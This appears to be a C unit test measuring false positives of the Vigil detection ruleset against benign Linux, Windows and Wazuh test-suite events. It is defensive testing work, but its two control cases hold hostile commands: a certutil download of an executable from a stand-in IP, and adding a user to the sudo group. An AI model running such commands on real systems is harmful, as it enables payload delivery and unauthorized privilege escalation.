/*
 * test_benign.c - false positives of Vigil's built-in ruleset on benign input.
 *
 * The benign corpus has three parts: every log line of the Wazuh test suite
 * ($VIGIL_SHARED/data/wazuh-ruleset/testing/tests/, every .ini file) in a section whose
 * expected Wazuh alert level is <= 7 (Wazuh deems them ordinary), the Linux
 * process executions of ordinary admin work as Vigil procmon documents, and
 * Windows admin commands as Sysmon event 1 in Wazuh's {"win":..} form. Each
 * is analyzed with the built-in ruleset alone; an event whose final rule has
 * a level above 7 is a false positive and is printed with the rule that
 * fired. The test prints the counts and asserts that there are none.
 * docs/false-positives.md describes the corpus and how to tune rules.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <ctype.h>
#include <dirent.h>
#include <jansson.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "vigil/engine.h"
#include "vigil/rule.h"
#include "vg_test.h"

#define BENIGN_MAX_LEVEL 7
#define WAZUH_TESTS      "wazuh-ruleset/testing/tests"

enum part { PART_WAZUH, PART_LINUX, PART_WINDOWS, PART_COUNT };

static const char *const part_name[PART_COUNT] = { "Wazuh suite, level <= 7",
	                                           "Linux admin (procmon)",
	                                           "Windows admin (Sysmon 1)" };

struct counts {
	size_t events[PART_COUNT];
	size_t decoded[PART_COUNT];
	size_t ruled[PART_COUNT]; /* a rule of level >= 1 fired */
	size_t above[PART_COUNT]; /* final rule level > BENIGN_MAX_LEVEL */
};

struct bench {
	struct vg_ruleset *rs;
	struct vg_analyzer *a;
	struct counts n;
	unsigned pid;
};

/* ---- fixtures: ordinary admin work ---- */

struct linux_cmd {
	const char *image;
	const char *cmdline;
	bool root;
};

static const struct linux_cmd linux_cmds[] = {
	{ "/usr/bin/apt", "apt update", true },
	{ "/usr/bin/apt", "apt install -y nginx", true },
	{ "/usr/bin/apt-get", "apt-get upgrade -y", true },
	{ "/usr/bin/sudo", "sudo apt upgrade", false },
	{ "/usr/bin/dpkg", "dpkg -l", false },
	{ "/usr/bin/systemctl", "systemctl restart nginx", true },
	{ "/usr/bin/systemctl", "systemctl status sshd", false },
	{ "/usr/bin/systemctl", "systemctl enable --now docker", true },
	{ "/usr/bin/systemctl", "systemctl daemon-reload", true },
	{ "/usr/bin/journalctl", "journalctl -u nginx --since today", false },
	{ "/usr/bin/journalctl", "journalctl -xe", true },
	{ "/usr/bin/ls", "ls -la /var/log", false },
	{ "/usr/bin/ls", "ls", false },
	{ "/usr/bin/ps", "ps aux", false },
	{ "/usr/bin/ps", "ps -ef --forest", false },
	{ "/usr/bin/top", "top -b -n 1", false },
	{ "/usr/bin/df", "df -h", false },
	{ "/usr/bin/du", "du -sh /var/lib/docker", true },
	{ "/usr/bin/free", "free -m", false },
	{ "/usr/bin/uptime", "uptime", false },
	{ "/usr/bin/docker", "docker ps", false },
	{ "/usr/bin/docker", "docker ps -a", false },
	{ "/usr/bin/docker", "docker logs --tail 100 web", false },
	{ "/usr/bin/docker", "docker compose up -d", false },
	{ "/usr/bin/docker", "docker pull nginx:1.25", false },
	{ "/usr/bin/git", "git status", false },
	{ "/usr/bin/git", "git pull --rebase", false },
	{ "/usr/bin/git", "git clone https://github.com/example/app.git", false },
	{ "/usr/bin/git", "git commit -m \"fix typo\"", false },
	{ "/usr/bin/git", "git log --oneline -10", false },
	{ "/usr/bin/ssh", "ssh alice@db01.corp.example", false },
	{ "/usr/bin/ssh", "ssh -p 2222 deploy@web02", false },
	{ "/usr/bin/scp", "scp report.pdf alice@files01:/srv/share/", false },
	{ "/usr/bin/crontab", "crontab -l", false },
	{ "/usr/bin/crontab", "crontab -e", false },
	{ "/usr/bin/vim", "vim /etc/hosts", true },
	{ "/usr/bin/nano", "nano /etc/nginx/sites-available/default", true },
	{ "/usr/bin/less", "less /var/log/syslog", true },
	{ "/usr/bin/tail", "tail -f /var/log/nginx/access.log", true },
	{ "/usr/bin/cat", "cat /etc/os-release", false },
	{ "/usr/bin/grep", "grep -r server_name /etc/nginx", false },
	{ "/usr/bin/tar", "tar czf backup.tar.gz /home/alice/projects", false },
	{ "/usr/bin/tar", "tar xzf app-1.2.tar.gz -C /opt", true },
	{ "/usr/bin/rsync", "rsync -avz /srv/www/ backup01:/backups/www/", true },
	{ "/usr/bin/rsync", "rsync -a --delete /home/alice/docs/ /mnt/usb/docs/", false },
	{ "/usr/sbin/useradd", "useradd -m -s /bin/bash -c \"Bob Smith\" bob", true },
	{ "/usr/sbin/usermod", "usermod -aG developers alice", true },
	{ "/usr/sbin/groupadd", "groupadd developers", true },
	{ "/usr/bin/passwd", "passwd bob", true },
	{ "/usr/bin/cp", "cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", true },
	{ "/usr/bin/mv", "mv /tmp/app.conf /etc/app/app.conf", true },
	{ "/usr/bin/mkdir", "mkdir -p /srv/data", true },
	{ "/usr/bin/chown", "chown -R www-data:www-data /var/www/html", true },
	{ "/usr/bin/chmod", "chmod 644 /etc/nginx/conf.d/site.conf", true },
	{ "/usr/bin/chmod", "chmod +x deploy.sh", false },
	{ "/usr/bin/ln", "ln -s /etc/nginx/sites-available/app /etc/nginx/sites-enabled/app",
	  true },
	{ "/usr/sbin/nginx", "nginx -t", true },
	{ "/usr/bin/curl", "curl -I https://www.example.com", false },
	{ "/usr/bin/curl", "curl -s http://localhost:8080/health", false },
	{ "/usr/bin/wget", "wget https://releases.example.org/tool-2.1.tar.gz", false },
	{ "/usr/bin/ping", "ping -c 3 8.8.8.8", false },
	{ "/usr/bin/ip", "ip addr show", false },
	{ "/usr/bin/ss", "ss -tlnp", true },
	{ "/usr/bin/dig", "dig example.com", false },
	{ "/usr/bin/host", "host mail.example.com", false },
	{ "/usr/bin/find", "find /var/log -name \"*.gz\" -mtime +30 -delete", true },
	{ "/usr/bin/python3", "python3 manage.py migrate", false },
	{ "/usr/bin/python3", "python3 -m venv .venv", false },
	{ "/usr/bin/pip3", "pip3 install -r requirements.txt", false },
	{ "/usr/bin/make", "make -j4", false },
	{ "/usr/bin/gcc", "gcc -O2 -o hello hello.c", false },
	{ "/usr/bin/kill", "kill -HUP 1234", true },
	{ "/usr/bin/hostnamectl", "hostnamectl", false },
	{ "/usr/bin/timedatectl", "timedatectl status", false },
	{ "/usr/sbin/ufw", "ufw allow 443/tcp", true },
	{ "/usr/bin/mount", "mount /dev/sdb1 /mnt/usb", true },
	{ "/usr/bin/lsblk", "lsblk", false },
	{ "/usr/bin/id", "id", false },
	{ "/usr/bin/who", "who", false },
	{ "/usr/bin/last", "last -n 20", false },
	{ "/usr/bin/uname", "uname -a", false },
	{ "/usr/bin/openssl", "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates", false },
	{ "/usr/bin/logrotate", "logrotate -f /etc/logrotate.conf", true },
	{ "/usr/bin/ansible-playbook", "ansible-playbook -i inventory site.yml", false },
	{ "/usr/bin/kubectl", "kubectl get pods -n default", false },
	{ "/usr/bin/htop", "htop", false },
};

struct win_cmd {
	const char *image; /* single backslashes; doubled in the event */
	const char *cmdline;
};

#define SYS32 "C:\\Windows\\System32\\"
#define PWSH  SYS32 "WindowsPowerShell\\v1.0\\powershell.exe"

static const struct win_cmd win_cmds[] = {
	{ SYS32 "ipconfig.exe", "ipconfig /all" },
	{ SYS32 "ipconfig.exe", "ipconfig /flushdns" },
	{ SYS32 "whoami.exe", "whoami" },
	{ SYS32 "tasklist.exe", "tasklist" },
	{ SYS32 "gpupdate.exe", "gpupdate /force" },
	{ SYS32 "sc.exe", "sc query wuauserv" },
	{ SYS32 "sc.exe", "sc query state= all" },
	{ SYS32 "net.exe", "net use Z: \\\\files01\\share" },
	{ SYS32 "net.exe", "net use" },
	{ SYS32 "reg.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion" },
	{ PWSH, "powershell.exe Get-Service" },
	{ PWSH, "powershell -Command \"Get-Process | Sort-Object CPU\"" },
	{ SYS32 "msiexec.exe", "msiexec /i C:\\Users\\alice\\Downloads\\local.msi /qn" },
	{ SYS32 "schtasks.exe", "schtasks /query /fo LIST" },
	{ SYS32 "systeminfo.exe", "systeminfo" },
	{ SYS32 "ping.exe", "ping -n 4 dc01.corp.example" },
	{ SYS32 "nslookup.exe", "nslookup dc01.corp.example" },
	{ SYS32 "netstat.exe", "netstat -ano" },
	{ SYS32 "hostname.exe", "hostname" },
	{ SYS32 "cmd.exe", "cmd.exe /c dir C:\\Users\\alice" },
	{ SYS32 "notepad.exe", "notepad.exe C:\\Users\\alice\\notes.txt" },
	{ SYS32 "mmc.exe",
	  "\"C:\\Windows\\system32\\mmc.exe\" C:\\Windows\\system32\\compmgmt.msc" },
	{ SYS32 "taskmgr.exe", "taskmgr.exe" },
	{ SYS32 "robocopy.exe", "robocopy C:\\Data \\\\backup01\\data /MIR" },
	{ SYS32 "chkdsk.exe", "chkdsk C:" },
	{ SYS32 "sfc.exe", "sfc /scannow" },
	{ SYS32 "dism.exe", "DISM /Online /Cleanup-Image /RestoreHealth" },
	{ SYS32 "w32tm.exe", "w32tm /resync" },
	{ SYS32 "gpresult.exe", "gpresult /r" },
	{ SYS32 "wevtutil.exe", "wevtutil qe System /c:10 /f:text" },
	{ SYS32 "shutdown.exe", "shutdown /r /t 0" },
	{ PWSH, "powershell.exe Get-EventLog -LogName System -Newest 20" },
	{ PWSH, "powershell.exe Restart-Service Spooler" },
};

/* ---- events ---- */

static void set_str(json_t *obj, const char *key, const char *val)
{
	assert_int_equal(json_object_set_new(obj, key, json_string(val)), 0);
}

static char *linux_event(unsigned pid, const struct linux_cmd *c)
{
	json_t *vig = json_object(), *parent = json_object(), *proc = json_object();
	set_str(vig, "module", "procmon");
	set_str(vig, "event", "process_creation");
	set_str(parent, "image", "/usr/bin/bash");
	set_str(parent, "command_line", "-bash");
	json_object_set_new(parent, "pid", json_integer(4000));
	json_object_set_new(proc, "pid", json_integer(pid));
	json_object_set_new(proc, "ppid", json_integer(4000));
	set_str(proc, "image", c->image);
	set_str(proc, "command_line", c->cmdline);
	set_str(proc, "current_directory", c->root ? "/root" : "/home/alice");
	json_object_set_new(proc, "uid", json_integer(c->root ? 0 : 1000));
	set_str(proc, "user", c->root ? "root" : "alice");
	json_object_set_new(proc, "auid", json_integer(1000));
	set_str(proc, "audit_user", "alice");
	set_str(proc, "tty", "pts0");
	json_object_set_new(proc, "parent", parent);
	json_t *doc = json_object();
	json_object_set_new(doc, "vigil", vig);
	json_object_set_new(doc, "process", proc);
	char *line = json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
	json_decref(doc);
	assert_non_null(line);
	return line;
}

/* s with every backslash doubled, as Wazuh's event-channel decoding leaves it. */
static void set_win(json_t *obj, const char *key, const char *raw)
{
	size_t n = strlen(raw), extra = 0;
	for (size_t i = 0; i < n; i++)
		extra += raw[i] == '\\';
	char *d = malloc(n + extra + 1), *o = d;
	assert_non_null(d);
	for (size_t i = 0; i < n; i++) {
		*o++ = raw[i];
		if (raw[i] == '\\')
			*o++ = '\\';
	}
	*o = '\0';
	set_str(obj, key, d);
	free(d);
}

static const char *base_name(const char *path)
{
	const char *b = path;
	for (const char *p = path; *p; p++)
		if (*p == '/' || *p == '\\')
			b = p + 1;
	return b;
}

static char *windows_event(unsigned pid, const struct win_cmd *c)
{
	char num[32];
	json_t *sys = json_object(), *ed = json_object();
	set_str(sys, "providerName", "Microsoft-Windows-Sysmon");
	set_str(sys, "eventID", "1");
	set_str(sys, "level", "4");
	set_str(sys, "systemTime", "2025-03-04T10:15:02.1234567Z");
	snprintf(num, sizeof(num), "%u", pid);
	set_str(sys, "eventRecordID", num);
	set_str(sys, "channel", "Microsoft-Windows-Sysmon/Operational");
	set_str(sys, "computer", "ws01.corp.example");
	set_str(sys, "severityValue", "INFORMATION");
	set_str(ed, "utcTime", "2025-03-04 10:15:02.123");
	set_str(ed, "processId", num);
	set_win(ed, "image", c->image);
	set_str(ed, "originalFileName", base_name(c->image));
	set_win(ed, "commandLine", c->cmdline);
	set_win(ed, "currentDirectory", "C:\\Users\\alice\\");
	set_win(ed, "user", "CORP\\alice");
	set_str(ed, "integrityLevel", "High");
	set_str(ed, "parentProcessId", "4012");
	set_win(ed, "parentImage", SYS32 "cmd.exe");
	set_win(ed, "parentCommandLine", "\"C:\\Windows\\system32\\cmd.exe\" ");
	json_t *win = json_object(), *doc = json_object();
	json_object_set_new(win, "system", sys);
	json_object_set_new(win, "eventdata", ed);
	json_object_set_new(doc, "win", win);
	char *line = json_dumps(doc, JSON_COMPACT | JSON_PRESERVE_ORDER);
	json_decref(doc);
	assert_non_null(line);
	return line;
}

/* ---- analysis ---- */

/* Analyzes one event of part p; where names the event in the report. */
static void analyze(struct bench *b, enum part p, const char *location, const char *line,
                    const char *where)
{
	struct vg_analysis r;
	int rc = vg_analyzer_process(b->a, location, line, NULL, &r);
	if (rc != VG_OK)
		printf("not processed (%d): %s\n", rc, where);
	assert_int_equal(rc, VG_OK);
	b->n.events[p]++;
	if (r.event && r.event->decoder_name)
		b->n.decoded[p]++;
	if (!r.rule || r.rule->level < 1)
		return;
	b->n.ruled[p]++;
	if (r.rule->level <= BENIGN_MAX_LEVEL)
		return;
	b->n.above[p]++;
	printf("ABOVE %d: rule %u level %d (%s) on %s\n  %.300s\n", BENIGN_MAX_LEVEL, r.rule->id,
	       r.rule->level, r.rule->description ? r.rule->description : "", where, line);
}

/* The final rule level of one event (-1 when no rule): the controls below
 * show that events of the fixtures' form do reach the rules. */
static int control_level(struct bench *b, const char *location, char *line)
{
	struct vg_analysis r;
	assert_int_equal(vg_analyzer_reset_state(b->a), VG_OK);
	assert_int_equal(vg_analyzer_process(b->a, location, line, NULL, &r), VG_OK);
	int level = r.rule ? r.rule->level : -1;
	free(line);
	return level;
}

/* ---- the Wazuh suite: sections expecting alert <= 7 ---- */

struct ini_key {
	char name[64];
	char **lines;
	size_t n;
};

struct ini_section {
	char name[256];
	int alert; /* -1 unknown */
	struct ini_key keys[64];
	size_t nkeys;
};

static void section_clear(struct ini_section *s)
{
	for (size_t i = 0; i < s->nkeys; i++) {
		for (size_t j = 0; j < s->keys[i].n; j++)
			free(s->keys[i].lines[j]);
		free(s->keys[i].lines);
	}
	memset(s, 0, sizeof(*s));
	s->alert = -1;
}

static char *trim(char *s)
{
	while (isspace((unsigned char)*s))
		s++;
	size_t n = strlen(s);
	while (n && isspace((unsigned char)s[n - 1]))
		s[--n] = '\0';
	return s;
}

static struct ini_key *section_key(struct ini_section *s, const char *name)
{
	for (size_t i = 0; i < s->nkeys; i++)
		if (strcmp(s->keys[i].name, name) == 0)
			return &s->keys[i];
	if (s->nkeys == sizeof(s->keys) / sizeof(*s->keys))
		return NULL;
	struct ini_key *k = &s->keys[s->nkeys++];
	snprintf(k->name, sizeof(k->name), "%s", name);
	return k;
}

static void key_add(struct ini_key *k, const char *v)
{
	k->lines = realloc(k->lines, (k->n + 1) * sizeof(*k->lines));
	assert_non_null(k->lines);
	k->lines[k->n] = strdup(v);
	assert_non_null(k->lines[k->n]);
	k->n++;
}

/* Runs the log keys of a section expecting level <= 7; a key's lines are
 * one session, as in Wazuh's runner. */
static void section_run(struct bench *b, const char *file, struct ini_section *s)
{
	if (s->alert < 0 || s->alert > BENIGN_MAX_LEVEL)
		return;
	for (size_t i = 0; i < s->nkeys; i++) {
		struct ini_key *k = &s->keys[i];
		if (strncmp(k->name, "log ", 4) != 0)
			continue;
		char where[1024];
		snprintf(where, sizeof(where), "%s [%s] %s", file, s->name, k->name);
		assert_int_equal(vg_analyzer_reset_state(b->a), VG_OK);
		for (size_t j = 0; j < k->n; j++)
			analyze(b, PART_WAZUH, "stdin", k->lines[j], where);
	}
}

static void ini_line(struct ini_section *s, struct ini_key **last, char *line)
{
	if ((line[0] == ' ' || line[0] == '\t') && *last) {
		char *v = trim(line);
		if (*v)
			key_add(*last, v);
		return;
	}
	char *p = trim(line);
	if (*p == '\0' || *p == ';' || *p == '#')
		return;
	size_t klen = strcspn(p, "=:");
	*last = NULL;
	if (p[klen] == '\0')
		return;
	p[klen] = '\0';
	char *key = trim(p), *val = trim(p + klen + 1);
	for (char *c = key; *c; c++)
		*c = (char)tolower((unsigned char)*c);
	if (strcmp(key, "alert") == 0) {
		char *end;
		long lv = strtol(val, &end, 10);
		s->alert = end != val && *end == '\0' && lv >= 0 && lv <= 16 ? (int)lv : -1;
		return;
	}
	*last = section_key(s, key);
	if (*last)
		key_add(*last, val);
}

static void ini_file(struct bench *b, const char *dir, const char *name)
{
	char path[4096];
	int pn = snprintf(path, sizeof(path), "%s/%s", dir, name);
	assert_true(pn > 0 && (size_t)pn < sizeof(path));
	FILE *fp = fopen(path, "r");
	assert_non_null(fp);
	struct ini_section s;
	memset(&s, 0, sizeof(s));
	section_clear(&s);
	struct ini_key *last = NULL;
	char *line = NULL;
	size_t cap = 0;
	while (getline(&line, &cap, fp) > 0) {
		if (line[0] == '[') {
			section_run(b, name, &s);
			section_clear(&s);
			char *t = trim(line + 1);
			size_t n = strcspn(t, "]");
			snprintf(s.name, sizeof(s.name), "%.*s", (int)n, t);
			last = NULL;
			continue;
		}
		ini_line(&s, &last, line);
	}
	section_run(b, name, &s);
	section_clear(&s);
	free(line);
	fclose(fp);
}

static int name_cmp(const void *x, const void *y)
{
	return strcmp(*(char *const *)x, *(char *const *)y);
}

static void wazuh_suite(struct bench *b, const char *dir)
{
	DIR *d = opendir(dir);
	assert_non_null(d);
	char **names = NULL;
	size_t n = 0;
	struct dirent *de;
	while ((de = readdir(d))) {
		size_t len = strlen(de->d_name);
		if (len < 5 || strcmp(de->d_name + len - 4, ".ini") != 0)
			continue;
		names = realloc(names, (n + 1) * sizeof(*names));
		assert_non_null(names);
		names[n] = strdup(de->d_name);
		assert_non_null(names[n++]);
	}
	closedir(d);
	assert_true(n > 0);
	qsort(names, n, sizeof(*names), name_cmp);
	for (size_t i = 0; i < n; i++) {
		ini_file(b, dir, names[i]);
		free(names[i]);
	}
	free(names);
}

/* ---- tests ---- */

static int setup(void **state)
{
	struct bench *b = calloc(1, sizeof(*b));
	if (!b)
		return -1;
	struct vg_ruleset_opts o = { .builtin = true };
	struct vg_diag diag;
	vg_diag_init(&diag);
	int rc = vg_ruleset_load(&o, &b->rs, &diag);
	if (rc != VG_OK)
		vg_diag_print(&diag, stdout);
	vg_diag_free(&diag);
	if (rc != VG_OK || vg_analyzer_create(b->rs, 3, &b->a) != VG_OK) {
		vg_ruleset_unref(b->rs);
		free(b);
		return -1;
	}
	b->pid = 5000;
	*state = b;
	return 0;
}

static int teardown(void **state)
{
	struct bench *b = *state;
	vg_analyzer_destroy(b->a);
	vg_ruleset_unref(b->rs);
	free(b);
	return 0;
}

static void print_part(const struct bench *b, enum part p)
{
	printf("%-26s events %5zu  decoded %5zu  rule>=1 %5zu  level>%d %zu\n", part_name[p],
	       b->n.events[p], b->n.decoded[p], b->n.ruled[p], BENIGN_MAX_LEVEL, b->n.above[p]);
}

/* Ordinary Linux admin commands: the procmon decoder takes each one and no
 * rule above level 7 fires. */
static void test_linux_admin(void **state)
{
	struct bench *b = *state;
	size_t n = sizeof(linux_cmds) / sizeof(*linux_cmds);
	assert_true(n >= 60);
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(vg_analyzer_reset_state(b->a), VG_OK);
		char *line = linux_event(++b->pid, &linux_cmds[i]);
		analyze(b, PART_LINUX, "vigil-procmon", line, linux_cmds[i].cmdline);
		free(line);
	}
	print_part(b, PART_LINUX);
	const struct linux_cmd bad = { "/usr/sbin/usermod", "usermod -aG sudo mallory", true };
	int lv = control_level(b, "vigil-procmon", linux_event(++b->pid, &bad));
	printf("control \"%s\": level %d\n", bad.cmdline, lv);
	assert_true(lv > BENIGN_MAX_LEVEL);
	assert_int_equal(b->n.events[PART_LINUX], n);
	assert_int_equal(b->n.decoded[PART_LINUX], n);
	assert_int_equal(b->n.above[PART_LINUX], 0);
}

/* Ordinary Windows admin commands as Sysmon event 1. */
static void test_windows_admin(void **state)
{
	struct bench *b = *state;
	size_t n = sizeof(win_cmds) / sizeof(*win_cmds);
	for (size_t i = 0; i < n; i++) {
		assert_int_equal(vg_analyzer_reset_state(b->a), VG_OK);
		char *line = windows_event(++b->pid, &win_cmds[i]);
		analyze(b, PART_WINDOWS, "EventChannel", line, win_cmds[i].cmdline);
		free(line);
	}
	print_part(b, PART_WINDOWS);
	const struct win_cmd bad = {
		SYS32 "certutil.exe", "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe"
	};
	int lv = control_level(b, "EventChannel", windows_event(++b->pid, &bad));
	printf("control \"%s\": level %d\n", bad.cmdline, lv);
	assert_true(lv > BENIGN_MAX_LEVEL);
	assert_int_equal(b->n.events[PART_WINDOWS], n);
	assert_int_equal(b->n.decoded[PART_WINDOWS], n);
	assert_int_equal(b->n.above[PART_WINDOWS], 0);
}

/* The Wazuh suite's lines Wazuh itself rates at level 7 or below. */
static void test_wazuh_suite_low_levels(void **state)
{
	struct bench *b = *state;
	char dir[4096];
	vg_test_require_data(dir, sizeof(dir), WAZUH_TESTS);
	wazuh_suite(b, dir);
	print_part(b, PART_WAZUH);
	assert_true(b->n.events[PART_WAZUH] > 0);
	assert_int_equal(b->n.above[PART_WAZUH], 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_linux_admin),
		cmocka_unit_test(test_windows_admin),
		cmocka_unit_test(test_wazuh_suite_low_levels),
	};
	int failed = cmocka_run_group_tests(tests, setup, teardown);
	return vg_test_result(failed);
}
